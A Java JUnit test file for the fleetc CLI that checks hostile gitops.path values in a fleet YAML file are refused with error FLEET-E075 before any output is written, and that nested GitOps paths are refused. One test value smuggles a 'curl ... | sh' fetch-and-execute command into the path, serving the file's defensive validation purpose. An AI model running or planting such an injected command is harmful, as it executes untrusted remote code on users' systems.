package dev.fleetc.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A {@code gitops.path} that would inject a command into the runbooks, leave a lock the next run
 * refuses, crash the compile or overwrite fleetc's own staging folder is a located error
 * (FLEET-E075, exit 1) before anything is written. On the code before the path grammar: the
 * injection and {@code .fleetc-staging} compiled (exit 0), the colon and line break compiled and
 * then stuck the folder, NUL was an internal error (70).
 */
class HostilePathsTest {

  @TempDir Path dir;

  static Stream<Arguments> hostilePaths() {
    return Stream.of(
        Arguments.of("\"clusters/c1; curl https://example.com/x | sh #\""),
        Arguments.of("\"clusters/a:b\""),
        Arguments.of("\"clusters/a\\nb\""),
        Arguments.of("\"clusters/a\\0b\""),
        Arguments.of(".fleetc-staging"),
        Arguments.of(".fleetc-staging/x"),
        Arguments.of("bootstrap/one"),
        Arguments.of("fleet.lock.json/x"),
        Arguments.of("\"clusters/\\u2028x\""));
  }

  @ParameterizedTest
  @MethodSource("hostilePaths")
  void refusedBeforeAnythingIsWritten(String yamlPath) throws Exception {
    Path fleet = dir.resolve("fleet.yaml");
    Files.writeString(
        fleet,
        """
        apiVersion: fleetc.dev/v1alpha1
        kind: Fleet
        metadata: {name: test}
        defaults: {kubernetes: "1.31", distribution: k3s}
        clusters:
          - name: one
            gitops: {engine: flux, repository: "https://example.com/g.git", path: PATH}
            nodes:
              - {name: s-1, address: 10.0.0.1, role: control-plane}
        """
            .replace("PATH", yamlPath));
    Path out = dir.resolve("out");
    Cli.Run run = Cli.run("compile", fleet.toString(), "-o", out.toString());
    assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(ExitCode.INVALID);
    assertThat(run.out() + run.err()).contains("FLEET-E075").contains("fleet.yaml:7:");
    assertThat(out).doesNotExist();
  }

  /**
   * Nested GitOps paths: on the code before, the inner cluster's {@code flux-system} files silently
   * replaced the outer one's (27 of 28 files written) and the next compile refused the lock that
   * listed them twice.
   */
  @Test
  void nestedGitOpsPathsAreRefused() throws Exception {
    Path fleet = dir.resolve("fleet.yaml");
    Files.writeString(
        fleet,
        """
        apiVersion: fleetc.dev/v1alpha1
        kind: Fleet
        metadata: {name: test}
        defaults:
          kubernetes: "1.31"
          distribution: k3s
          gitops: {engine: flux, repository: "https://example.com/g.git"}
        clusters:
          - name: one
            nodes:
              - {name: s-1, address: 10.0.0.1, role: control-plane}
          - name: two
            gitops: {path: clusters/one/flux-system}
            nodes:
              - {name: s-1, address: 10.0.0.2, role: control-plane}
        """);
    Path out = dir.resolve("out");
    Cli.Run run = Cli.run("compile", fleet.toString(), "-o", out.toString());
    assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(ExitCode.INVALID);
    assertThat(run.out() + run.err()).contains("FLEET-E075").contains("inside the GitOps path");
    assertThat(out).doesNotExist();
  }
}
